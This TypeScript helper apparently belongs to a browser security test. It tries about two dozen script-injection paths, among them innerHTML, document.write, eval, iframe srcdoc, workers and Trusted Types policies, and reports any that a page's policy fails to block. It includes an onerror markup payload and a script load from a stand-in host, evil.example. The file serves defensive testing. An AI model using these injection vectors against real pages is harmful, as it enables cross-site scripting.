/**
 * Runs in a page: tries every way by which a text becomes a script there, and gives back those that were not refused.
 * `own` is a script that the page may load by its own markup.
 */
export async function unrefused(own: string): Promise<string[]> {
  // Apart from what a test's own tools may do while they look at a page.
  await new Promise((resolve) => setTimeout(resolve));
  const code = 'globalThis.foreignScripts = true';
  const markup = `<img src="data:," onerror="${code}"><script>${code}</script>`;
  const element = <K extends keyof HTMLElementTagNameMap>(name: K) => document.createElement(name);
  const script = () => document.body.appendChild(element('script'));
  // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what is tried
  const made = () => new Function(code) as () => void;
  const types = (
    globalThis as unknown as {trustedTypes: {createPolicy(name: string, rules: object): unknown}}
  ).trustedTypes;
  const ways: Record<string, () => unknown> = {
    innerHTML: () => (element('div').innerHTML = markup),
    outerHTML: () => (document.body.appendChild(element('i')).outerHTML = markup),
    'innerHTML of a shadow root': () =>
      (element('div').attachShadow({mode: 'open'}).innerHTML = markup),
    'innerHTML of a template': () => (element('template').innerHTML = markup),
    insertAdjacentHTML: () => {
      document.body.insertAdjacentHTML('beforeend', markup);
    },
    'document.write': () => {
      // eslint-disable-next-line @typescript-eslint/no-deprecated -- what is tried
      document.write(markup);
    },
    DOMParser: () => new DOMParser().parseFromString(markup, 'text/html'),
    createContextualFragment: () => document.createRange().createContextualFragment(markup),
    srcdoc: () => (element('iframe').srcdoc = markup),
    'script.src elsewhere': () => (script().src = 'https://evil.example/x.js'),
    'script.src of our own': () => (script().src = own),
    'script.src as data': () => (script().src = `data:text/javascript,${code}`),
    'the attribute src': () => {
      script().setAttribute('src', own);
    },
    'script.text': () => (script().text = code),
    'script.textContent': () => (script().textContent = code),
    'a handler as an attribute': () => {
      element('img').setAttribute('onerror', code);
    },
    eval: () => {
      (0, eval)(code);
    },
    Function: () => {
      made()();
    },
    'a timer': () => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what is tried
      setTimeout(code);
    },
    Worker: () => new Worker(`data:text/javascript,${code}`),
    'Worker of our own': () => new Worker(own),
    'a policy of its own': () => types.createPolicy('foreign', {}),
    'another default policy': () => types.createPolicy('default', {}),
    'a service worker': () => {
      // Rejects where it is refused, and later: by then it is told apart by its word.
      return navigator.serviceWorker.register(own);
    },
  };
  const open: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    try {
      await way();
      open.push(name);
    } catch {
      // Refused, as it has to be.
    }
  }
  // A script as text that only its browser's policy stops does so without a word.
  await new Promise((resolve) => setTimeout(resolve, 0));
  if ('foreignScripts' in globalThis) open.push('a script ran');
  return open;
}
